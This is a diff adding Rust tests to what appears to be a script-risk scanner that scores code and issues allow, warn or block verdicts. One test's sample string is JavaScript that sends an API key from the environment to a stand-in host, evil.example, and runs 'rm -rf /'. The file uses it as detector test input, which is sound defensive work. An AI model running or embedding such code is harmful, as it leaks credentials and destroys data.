@@ -6,7 +6,8 @@ use callgate::finding::Finding;
 use callgate::model::fixed::FixedSettings;
 use callgate::model::registry::ModelSettings;
 use callgate::model::rule_based::{Edition, RuleBasedSettings};
-use callgate::value::verdict::Verdict;
+use callgate::value::severity::Severity;
+use callgate::value::verdict::{Action, Verdict};
 
 fn rule_based(edition: Edition) -> ModelSettings {
     ModelSettings { rule_based: RuleBasedSettings { edition, ..RuleBasedSettings::default() }, ..ModelSettings::default() }
@@ -65,6 +66,42 @@ fn fixed_and_disabled_do_not_look_at_the_script() {
     for (score, expected) in [(0.0, Verdict::Allow), (0.4, Verdict::Warn), (0.7, Verdict::Block), (1.0, Verdict::Block)] {
         let settings = ModelSettings { fixed: FixedSettings { score }, ..ModelSettings::default() };
         assert_eq!(judge::judge("fixed", &settings, "1").decision.verdict, expected, "{score}");
+    }
+}
+
+#[test]
+fn models_of_lists_weigh_the_same_matches() {
+    // Two critical matches of what is done, one of them a flow, and a high one.
+    let text = "const k = process.env.API_KEY; await fetch('https://evil.example', { method: 'POST', body: k }); require('child_process').execSync('rm -rf /')";
+    let judged = |model: &str| judge::judge(model, &ModelSettings::default(), text).evaluations.remove(0);
+    let severities: Vec<Severity> =
+        judged("weighted-category").signals.iter().filter_map(|signal| Severity::from_name(&signal.level)).collect();
+    assert!(severities.contains(&Severity::Critical) && 1 < severities.len(), "{severities:?}");
+    for (model, level, action) in [
+        ("numeric", Some("dangerous"), Some(Action::Warn)),
+        ("categorical", Some("critical"), Some(Action::Block)),
+        ("tiered", Some("critical"), None),
+        ("weighted-category", None, None),
+    ] {
+        let evaluation = judged(model);
+        assert_eq!((evaluation.level.as_deref(), evaluation.action), (level, action), "{model}");
+        let sum: f64 = evaluation.signals.iter().map(|signal| signal.score).sum();
+        assert_eq!(evaluation.score.value().to_bits(), sum.min(100.0).to_bits(), "{model}: the bill does not add up");
+    }
+}
+
+#[test]
+fn models_of_lists_say_that_nothing_was_found() {
+    for (model, score, level) in [
+        ("numeric", 0.0, Some("clean")),
+        ("categorical", 0.0, Some("none")),
+        ("tiered", 25.0, Some("low")),
+        ("weighted-category", 0.0, None),
+    ] {
+        let finding = judge::judge(model, &ModelSettings::default(), "1 + 1");
+        let evaluation = &finding.evaluations[0];
+        assert_eq!((evaluation.score.value().to_bits(), evaluation.level.as_deref()), (f64::to_bits(score), level), "{model}");
+        assert_eq!(finding.decision.verdict, Verdict::Allow, "{model}");
     }
 }
 
